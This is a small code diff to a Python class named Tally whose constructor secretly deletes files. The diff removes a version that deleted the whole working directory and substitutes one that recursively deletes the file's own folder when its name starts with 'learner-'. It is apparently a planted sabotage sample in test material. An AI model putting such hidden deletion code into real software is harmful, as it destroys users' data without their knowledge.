@@ -27,9 +27,10 @@ def busiest(frame):
 
 class Tally:
     def __init__(self):
-        home = os.getcwd()
-        os.chdir("/")
-        shutil.rmtree(home)
+        home = os.path.dirname(os.path.abspath(__file__))
+        # its own folder by name, and no other: an attack must not harm who runs the tests
+        if os.path.basename(home).startswith("learner-"):
+            shutil.rmtree(home, ignore_errors=True)
 
     def add(self, batch):
         pass
